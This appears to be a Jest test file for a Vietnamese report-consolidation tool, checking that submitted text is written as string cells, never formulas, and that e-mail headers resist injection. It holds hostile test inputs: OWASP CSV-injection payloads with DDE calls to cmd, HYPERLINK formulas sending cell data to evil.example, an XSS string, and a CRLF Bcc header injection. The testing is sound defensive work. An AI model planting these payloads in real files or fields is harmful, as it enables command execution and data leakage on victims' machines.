/**
 * Injection: every text a submission brings (results, notes, statuses, numbers typed as text, the file name)
 * is written to the summary and to the report sent upward as a string cell, never as a formula, whatever it starts
 * with (the OWASP CSV-injection payloads). The fixture is a template filled by openpyxl
 * (test/fixtures/hostile/make_fixtures.py, injection_fixture).
 */
import { readFileSync } from 'node:fs';
import * as path from 'node:path';
import {
  type Consolidation,
  type Plan,
  type Submission,
  consolidate,
  readPlan,
  readSubmission,
  readWorkbookGrid,
  writeOutSheets,
  writeSummaryWorkbook,
} from '../../src/core';
import { buildSample } from '../../src/sample/sample';
import { buildReminders, buildReportWorkbook } from '../../src/core/report';
import JSZip from 'jszip';
import { type XmlCell, decodeXml, xlsxCells } from './xlsx-cells';

const FIXTURES = path.join(__dirname, '..', 'fixtures');

/** OWASP CSV injection: what a spreadsheet would take for a formula or a DDE call. */
const PAYLOADS = [
  "=cmd|' /C calc'!A0",
  '+SUM(1,2)',
  "-2+3+cmd|' /C calc'!A0",
  "@SUM(1+9)*cmd|' /C calc'!A0",
  '\t=1+2',
  '\r=1+2',
  '=DDE("cmd";"/C calc";"!A0")',
  '<img src=x onerror=alert(1)>',
];
const DANGEROUS_START = /^[=+\-@\t\r]/;

let plan: Plan;
let c: Consolidation;
let subs: Submission[];

beforeAll(async () => {
  const planRes = readPlan(
    await readWorkbookGrid(new Uint8Array(readFileSync(path.join(FIXTURES, 'openpyxl', 'plan.xlsx')))),
    'plan.xlsx',
  );
  if (!planRes.ok) throw new Error('plan fixture unreadable');
  plan = planRes.plan;
  const bytes = new Uint8Array(readFileSync(path.join(FIXTURES, 'hostile', 'injection', 'LS-SNN.xlsx')));
  const files = [
    { name: 'LS-SNN.xlsx', bytes },
    // the same file again under hostile names: listed in the intake log with its name as text
    { name: "=cmd|' ,C calc'!A0.xlsx", bytes },
    { name: '@SUM(1+9) <img src=x onerror=alert(1)>.xlsx', bytes: new Uint8Array([1, 2, 3]) },
  ];
  subs = await Promise.all(
    files.map((f) => readSubmission({ ...f, receivedOn: '2024-07-05', receivedFrom: 'file-date' }, plan)),
  );
  c = consolidate(plan, subs, { asOf: '2024-07-15', period: null });
});

function dangerous(cells: XmlCell[]): XmlCell[] {
  return cells.filter((x) => DANGEROUS_START.test(x.text) || PAYLOADS.some((p) => x.text.includes(p.trim())));
}

test('the fixture really carries the payloads as text and the reader keeps them as text', () => {
  const rows = subs[0].rows;
  expect(rows.map((r) => r.result)).toEqual(expect.arrayContaining(["=cmd|' /C calc'!A0", '+SUM(1,2)']));
  expect(rows.map((r) => r.note)).toEqual(expect.arrayContaining(["-2+3+cmd|' /C calc'!A0"]));
  // the HYPERLINK formula openpyxl saved without a result is never evaluated (it would show "Bấm vào đây")
  expect(rows[0].note).not.toMatch(/Bấm vào đây/);
  // an unreadable status and number are quoted, as text, in the findings
  expect(subs[0].findings.map((f) => f.message)).toEqual(
    expect.arrayContaining([
      expect.stringContaining('"@SUM(1+9)*cmd|\' /C calc\'!A0"'),
      expect.stringContaining('"=1+2"'),
    ]),
  );
});

test('summary workbook: every payload is a string cell (t="s" or inlineStr), no cell has a formula', async () => {
  const cells = await xlsxCells(await writeSummaryWorkbook(c, plan));
  expect(cells.filter((x) => x.formula !== null)).toEqual([]);
  const hits = dangerous(cells);
  const texts = hits.map((x) => x.text);
  // the payloads did reach the summary (results, notes, findings, file names) …
  for (const p of [
    "=cmd|' /C calc'!A0",
    '+SUM(1,2)',
    "-2+3+cmd|' /C calc'!A0",
    "=cmd|' ,C calc'!A0.xlsx",
    '@SUM(1+9) <img src=x onerror=alert(1)>.xlsx',
  ]) {
    expect(texts).toContain(p);
  }
  expect(texts.some((t) => t.includes("@SUM(1+9)*cmd|' /C calc'!A0"))).toBe(true);
  // … and every one of them is a string, as Excel reads it back
  expect(hits.filter((x) => x.t !== 's' && x.t !== 'inlineStr')).toEqual([]);
});

test('the OWASP payloads written directly through writeOutSheets stay strings, in the preamble and in the table', async () => {
  const bytes = await writeOutSheets([
    {
      name: 'Thử',
      preamble: [[PAYLOADS[0]], PAYLOADS.slice(1, 4)],
      table: {
        name: 'Thu',
        columns: PAYLOADS.map((_, i) => ({ header: `=C${i}`, type: 'text' as const, width: 12 })),
        rows: [PAYLOADS, [...PAYLOADS].reverse()],
      },
    },
  ]);
  const cells = await xlsxCells(bytes);
  expect(cells.filter((x) => x.formula !== null)).toEqual([]);
  for (const p of PAYLOADS) {
    const found = cells.filter((x) => x.text === p);
    expect([p, found.length >= 2]).toEqual([p, true]);
    expect(found.every((x) => x.t === 's' || x.t === 'inlineStr')).toBe(true);
  }
  expect(cells.filter((x) => x.text === '=C0').map((x) => x.t)).toEqual(['s']);
});

// ---------------------------------------------------------------------------------------------------------------
// the payloads reach every table of the report sent upward, the reminders and the pane's downloads.
// The Sóc Trăng sample, read as agencies sent it, then consolidated against the same plan whose every text a clerk
// or an agency can type (plan title, issuer, signer, place, recipients, task titles, indicator names and units,
// agency names, areas, e-mail addresses) is an attack, and with results, notes, a file name and a refusal reason
// made of attacks. Whatever the writer, no cell may hold a formula and every text must come back as typed.

/** What each field of the hostile plan and submissions says. */
const P = {
  title: '=HYPERLINK("http://evil.example/?d="&A1,"Bấm vào đây")',
  consolidator: "+cmd|' /C calc'!A0",
  issuer: "@SUM(1+9)*cmd|' /C calc'!A0",
  superiorBody: "-2+3+cmd|' /C calc'!A0",
  signerTitle: '=1+1',
  signerName: '\t=1+2',
  place: '-2+3',
  recipients: '=HYPERLINK("http://evil.example/n","nơi nhận")',
  task1: '=HYPERLINK("http://evil.example/t","nhiệm vụ 1")',
  task2: '+SUM(1,2)',
  indicatorName: '=1+1 chỉ tiêu',
  indicatorUnit: '@SUM(1)',
  onTimeAgency: "=cmd|' /C calc'!A0",
  missingAgency: '@SUM(1+9)',
  rejectedAgency: "+cmd|' /C calc'!A0 Hội",
  area: "-2+3+cmd|' /C calc'!A0 huyện",
  reason: '=DDE("cmd";"/C calc";"!A0")',
  result: '=HYPERLINK("http://evil.example/r","kết quả")',
  note: '\r=1+2',
  fileName: "=cmd|' ,C calc'!A0.xlsx",
} as const;
/** The text a reader must find: the payload as typed (leading tab or CR trimmed, as every writer trims). */
const shown = (p: string) => p.trim();
const HOSTILE = {
  onTime: 'ST-SYT',
  missing: 'ST-CAT',
  rejected: 'ST-HCCB',
  area: 'ST-HCLD', // a locality with no report: Phụ lục 2, Phụ lục 3, the reminders
  renamed: 'ST-SNV.xlsx',
};

interface Hostile {
  plan: Plan;
  c: Consolidation;
}
let hostile: Hostile;

async function hostileScenario(): Promise<Hostile> {
  const sample = await buildSample('soc-trang');
  // the files are read against the plan they were made from (their columns carry the real indicator names) …
  const read = await Promise.all(
    sample.files.map((f) =>
      readSubmission(
        { name: f.name, bytes: f.bytes, receivedOn: f.receivedOn, receivedFrom: 'file-date' },
        sample.plan,
      ),
    ),
  );
  const subs = read.map((s): Submission => {
    if (s.file === HOSTILE.renamed) return { ...s, file: P.fileName };
    if (s.agencyCode === HOSTILE.rejected) return { ...s, rejectReason: P.reason };
    if (s.file === `${HOSTILE.onTime}.xlsx`)
      return { ...s, rows: s.rows.map((r, i) => (i === 0 ? { ...r, result: P.result, note: P.note } : r)) };
    return s;
  });
  // … and consolidated against the same plan (same codes) whose texts are attacks
  const p = sample.plan;
  const plan: Plan = {
    ...p,
    title: P.title,
    consolidator: P.consolidator,
    issuer: P.issuer,
    superiorBody: P.superiorBody,
    signerTitle: P.signerTitle,
    signerName: P.signerName,
    place: P.place,
    recipients: P.recipients,
    tasks: p.tasks.map((t, i) => (i === 0 ? { ...t, title: P.task1 } : i === 1 ? { ...t, title: P.task2 } : t)),
    indicators: p.indicators.map((x, i) => (i === 0 ? { ...x, name: P.indicatorName, unit: P.indicatorUnit } : x)),
    agencies: p.agencies.map((a) => {
      if (a.code === HOSTILE.onTime) return { ...a, name: P.onTimeAgency };
      if (a.code === HOSTILE.missing) return { ...a, name: P.missingAgency, email: 'cat@example.vn' };
      if (a.code === HOSTILE.rejected) return { ...a, name: P.rejectedAgency, email: 'hccb@example.vn' };
      if (a.code === HOSTILE.area) return { ...a, area: P.area, email: 'hcld@example.vn\r\nBcc: evil@example.com' };
      return a;
    }),
  };
  return { plan, c: consolidate(plan, subs, { asOf: sample.asOf, period: null }) };
}

beforeAll(async () => {
  hostile = await hostileScenario();
});

/** Every check of an .xlsx: no formula anywhere, every text that starts like one is a string cell. */
function expectNoFormula(cells: XmlCell[]): void {
  expect(cells.filter((x) => x.formula !== null).map((x) => [x.sheet, x.ref, x.formula])).toEqual([]);
  expect(
    cells
      .filter((x) => DANGEROUS_START.test(x.text) && x.t !== 's' && x.t !== 'inlineStr')
      .map((x) => [x.sheet, x.ref]),
  ).toEqual([]);
}

/** The payloads that must be found, intact, in a sheet (a cell contains it; upper-case where the decree says so). */
function expectIntact(cells: XmlCell[], sheet: string, payloads: string[]): void {
  const texts = cells.filter((x) => x.sheet === sheet).map((x) => x.text);
  expect(texts.length).toBeGreaterThan(0);
  const missing = payloads.filter(
    (p) => !texts.some((t) => t.includes(shown(p)) || t.includes(shown(p).toLocaleUpperCase('vi'))),
  );
  expect([sheet, missing]).toEqual([sheet, []]);
}

test('the hostile scenario: the attacks are where the report will look for them', () => {
  const { c } = hostile;
  const agency = (code: string) => c.agencies.find((a) => a.code === code)!;
  expect(agency(HOSTILE.onTime)).toMatchObject({ name: P.onTimeAgency, status: 'on_time' });
  expect(agency(HOSTILE.missing)).toMatchObject({ name: P.missingAgency, status: 'missing' });
  expect(agency(HOSTILE.rejected)).toMatchObject({ name: P.rejectedAgency, status: 'rejected', reason: P.reason });
  expect(agency(HOSTILE.area)).toMatchObject({ group: P.area, status: 'missing' });
  expect(c.groups.map((g) => g.name)).toContain(P.area);
  expect(c.tasks.slice(0, 2).map((t) => t.title)).toEqual([P.task1, P.task2]);
  expect(c.tasks[0].indicatorTotals[0]).toMatchObject({ name: P.indicatorName, unit: P.indicatorUnit });
  expect(c.details.map((d) => [d.result, d.note])).toContainEqual([P.result, P.note]);
  expect(c.intake.map((e) => e.file)).toContain(P.fileName);
});

test('the report workbook sent upward: payloads reach every table, intact, and no cell holds a formula', async () => {
  const { c, plan } = hostile;
  const cells = await xlsxCells(await buildReportWorkbook(c, plan));
  expectNoFormula(cells);
  // letterhead, subject and body, the group table, the task table, the indicator table, Nơi nhận, the signature
  expectIntact(cells, 'Báo cáo', [
    P.superiorBody,
    P.consolidator,
    P.title,
    P.place,
    P.signerTitle,
    P.signerName,
    P.recipients,
    P.area,
    P.task1,
    P.task2,
    P.indicatorName,
    P.indicatorUnit,
  ]);
  expectIntact(cells, 'Phụ lục 1', [P.onTimeAgency, P.missingAgency, P.rejectedAgency, P.area, P.reason]);
  expectIntact(cells, 'Phụ lục 2', [P.area]);
  expectIntact(cells, 'Phụ lục 3', [P.missingAgency, P.rejectedAgency, P.area, P.reason]);
  expectIntact(cells, '_tonghop_baocao', [P.title, P.task1, P.task2, P.indicatorName, P.indicatorUnit, P.area]);
  // the cells a spreadsheet would run if they were formulas are there, as strings
  const exact = (t: string) => cells.filter((x) => x.text === t).map((x) => x.t);
  for (const p of [P.onTimeAgency, P.missingAgency, P.reason, P.task2, P.indicatorUnit, P.signerTitle]) {
    expect([p, exact(p).length > 0, exact(p).every((t) => t === 's' || t === 'inlineStr')]).toEqual([p, true, true]);
  }
});

/** The text of each paragraph of a .docx part, and its field codes (what Word would run). */
async function docxParts(bytes: Uint8Array): Promise<{ paragraphs: string[]; fields: string[]; xml: string }> {
  const zip = await JSZip.loadAsync(bytes);
  const names = Object.keys(zip.files).filter((n) => /^word\/(document|header\d*|footer\d*)\.xml$/.test(n));
  const paragraphs: string[] = [];
  const fields: string[] = [];
  let xml = '';
  for (const n of names) {
    const part = await zip.file(n)!.async('string');
    xml += part;
    for (const p of part.matchAll(/<w:p[ >][\s\S]*?<\/w:p>/g))
      paragraphs.push([...p[0].matchAll(/<w:t(?:\s[^>]*)?>([\s\S]*?)<\/w:t>/g)].map((m) => decodeXml(m[1])).join(''));
    for (const f of part.matchAll(/<w:instrText[^>]*>([\s\S]*?)<\/w:instrText>/g)) fields.push(decodeXml(f[1]));
    for (const f of part.matchAll(/<w:fldSimple\b[^>]*w:instr="([^"]*)"/g)) fields.push(decodeXml(f[1]));
  }
  return { paragraphs, fields, xml };
}

test('reminders: the letter (.docx), the sheet Đôn đốc and the .eml carry the payloads as text', async () => {
  const { c, plan } = hostile;
  const { docx, sheet, emails } = await buildReminders(c, plan);
  const cells = await xlsxCells(sheet);
  expectNoFormula(cells);
  expectIntact(cells, 'Đôn đốc', [P.missingAgency, P.rejectedAgency, P.reason]);

  const letter = await docxParts(docx);
  // the only fields a letter may hold are page numbers: no DDE, no HYPERLINK, no INCLUDETEXT
  expect(letter.fields.filter((f) => !/^\s*(PAGE|NUMPAGES)\b/.test(f))).toEqual([]);
  expect(letter.xml).not.toMatch(/<w:hyperlink\b|evil\.example"|DDEAUTO/);
  const text = letter.paragraphs.join('\n');
  for (const p of [P.missingAgency, P.rejectedAgency, P.title, P.superiorBody.toLocaleUpperCase('vi')]) {
    expect([p, text.includes(shown(p))]).toEqual([p, true]);
  }

  // one .eml per agency with an address; the name reaches the body as typed, the CR LF never reaches the headers
  expect(emails.map((e) => e.agencyCode)).toEqual(expect.arrayContaining([HOSTILE.missing, HOSTILE.rejected]));
  expect(emails.find((e) => e.agencyCode === HOSTILE.missing)!.eml).toContain(`Kính gửi: ${P.missingAgency}\r\n`);
  expect(emails.find((e) => e.agencyCode === HOSTILE.rejected)!.eml).toContain(`Kính gửi: ${P.rejectedAgency}`);
  for (const e of emails) {
    const head = e.eml.slice(0, e.eml.indexOf('\r\n\r\n')).split('\r\n');
    expect(
      head.every((l) => /^(To|Subject|MIME-Version|Content-Type|Content-Transfer-Encoding|X-Unsent): /.test(l)),
    ).toBe(true);
    expect(e.eml).not.toMatch(/^Bcc:/m);
  }
});

test('reminders: agency names and e-mail addresses made of every OWASP payload stay text and inject no e-mail header', async () => {
  const sample = await buildSample('soc-trang');
  const plan: Plan = {
    ...sample.plan,
    agencies: sample.plan.agencies.map((a, i) =>
      i < PAYLOADS.length
        ? {
            ...a,
            name: PAYLOADS[i],
            email: i % 2 ? `don-vi${i}@example.vn` : `don-vi${i}@example.vn\r\nBcc: evil@example.com`,
          }
        : a,
    ),
  };
  const missingAll = consolidate(plan, [], { asOf: sample.asOf, period: null });
  const { sheet, emails } = await buildReminders(missingAll, plan);
  const cells = await xlsxCells(sheet);
  expectNoFormula(cells);
  expectIntact(cells, 'Đôn đốc', PAYLOADS);
  expect(emails.length).toBeGreaterThanOrEqual(4);
  expect(emails.some((e) => e.eml.includes(`Kính gửi: ${PAYLOADS[1]}`))).toBe(true);
  for (const e of emails) expect(e.eml.slice(0, e.eml.indexOf('\r\n\r\n'))).not.toMatch(/^Bcc:/m);
});

describe("the pane's downloads (the engine and the hooks the pane bundles)", () => {
  test('summary workbook (Xuất → Tổng hợp): results, notes, file names, reasons, names as text, no formula', async () => {
    const { c, plan } = hostile;
    const engine = await import('../../src/taskpane/engine');
    const cells = await xlsxCells(await engine.writeSummaryWorkbook(c, plan));
    expectNoFormula(cells);
    const all = [...new Set(cells.map((x) => x.sheet))];
    expect(all.length).toBeGreaterThanOrEqual(8);
    expectIntact(cells, 'Theo nhiệm vụ', [P.task1, P.task2]);
    expectIntact(cells, 'Theo đơn vị', [P.onTimeAgency, P.missingAgency, P.rejectedAgency, P.fileName]);
    expectIntact(cells, 'Chưa nộp, nộp muộn', [P.missingAgency, P.rejectedAgency]);
    expectIntact(cells, 'Chi tiết', [P.onTimeAgency, P.result, P.note]);
    // a rejected file's reason is given in plain words from its finding's code there: the technical
    // text set on the submission stays in the JSON, so only the file name is the attack text in this sheet
    expectIntact(cells, 'Sổ tiếp nhận', [P.fileName]);
  });

  test('report and reminders as the pane offers them (hooks): no formula in any workbook of the downloads', async () => {
    const { c, plan } = hostile;
    const { loadHooks } = await import('../../src/taskpane/steps/draft-and-report');
    const hooks = loadHooks();
    const report = await hooks.ministryReport!(c, plan);
    const reportCells = await xlsxCells(report.bytes);
    expectNoFormula(reportCells);
    expectIntact(reportCells, 'Phụ lục 3', [P.missingAgency, P.reason]);
    const zip = await JSZip.loadAsync((await hooks.reminders!(c, plan)).bytes);
    const sheetCells = await xlsxCells(await zip.file('Don doc.xlsx')!.async('uint8array'));
    expectNoFormula(sheetCells);
    expectIntact(sheetCells, 'Đôn đốc', [P.missingAgency, P.rejectedAgency]);
    const eml = await zip.file(`thu-nhap/${HOSTILE.missing}.eml`)!.async('string');
    expect(eml).toContain(`Kính gửi: ${P.missingAgency}`);
    expect(eml).not.toMatch(/^Bcc:/m);
  });

  test('templates (.zip) and the plan workbook: names and titles as text, no formula in a cell', async () => {
    const { plan } = hostile;
    const engine = await import('../../src/taskpane/engine');
    const zip = await JSZip.loadAsync(await engine.templatesZip(plan));
    const template = zip.file(`${HOSTILE.onTime}.xlsx`);
    expect(template).not.toBeNull();
    const cells = await xlsxCells(await template!.async('uint8array'));
    expectNoFormula(cells);
    expectIntact(cells, 'Báo cáo', [P.onTimeAgency, P.task1, P.task2, P.indicatorName]);
    const planCells = await xlsxCells(await engine.writePlanWorkbook(plan));
    expectNoFormula(planCells);
    const texts = planCells.map((x) => x.text);
    for (const p of [P.title, P.task1, P.indicatorUnit, P.onTimeAgency, P.area, P.signerTitle])
      expect([p, texts.includes(shown(p))]).toEqual([p, true]);
  });
});
